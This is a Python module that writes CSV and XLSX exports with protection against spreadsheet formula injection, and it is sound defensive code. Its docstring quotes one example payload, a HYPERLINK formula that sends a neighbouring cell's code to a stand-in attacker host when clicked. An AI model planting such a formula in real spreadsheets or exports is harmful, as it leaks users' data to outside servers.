"""Every CSV and XLSX file Helhet writes, with cells a spreadsheet shows but never runs.

    body = csv_bytes([["code", "unit_name"], ["K7MQ2-XH9TD", unit.name]])     # UTF-8 with BOM, ";"
    body = xlsx_bytes([["unit", "responses"], [unit.code, 14]])

A text cell that starts with ``=``, ``+``, ``-`` or ``@`` is read as a formula by Excel, LibreOffice
and Google Sheets, also after a leading tab or carriage return. A unit named
``=HYPERLINK("https://evil.example/?"&A2;"Klikk her")`` would then, in the mail-merge file, send the
code beside it to someone else's server when clicked. As OWASP advises
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell gets a single quote in front
(``'=HYPERLINK(...)``): the spreadsheet shows it as text.

Whether a cell is text or a number is decided by its Python type, never by its content: a count
(``int``, ``float``, ``Decimal``) is written as a number, also when negative; a code or a name
(``str``) is text, so a unit code ``-12`` becomes ``'-12``. Build numeric columns from numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with a single quote in front
    if it is text a spreadsheet would run as a formula.
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def csv_bytes(rows: Iterable[Sequence[Any]], delimiter: str = ";") -> bytes:
    """A CSV file as Excel in Norway opens it: UTF-8 with BOM (so it reads æøå), `;`, CRLF."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    writer.writerows(safe_row(row) for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_bytes(rows: Iterable[Sequence[Any]], title: str = "Helhet") -> bytes:
    """An XLSX workbook with one sheet; text is stored as text (never as a formula),
    numbers as numbers.
    """
    return xlsx_sheets_bytes([(title, rows)])


def xlsx_sheets_bytes(sheets: Iterable[tuple[str, Iterable[Sequence[Any]]]]) -> bytes:
    """An XLSX workbook with one sheet per (title, rows), in order, each as `xlsx_bytes` writes
    its one sheet."""
    workbook = Workbook(write_only=True)
    for title, rows in sheets:
        sheet = workbook.create_sheet(title[:31])
        for row in rows:
            # first drop the control characters XLSX cannot hold, so that none hides a formula
            sheet.append(
                safe_row(ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in row)
            )
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()
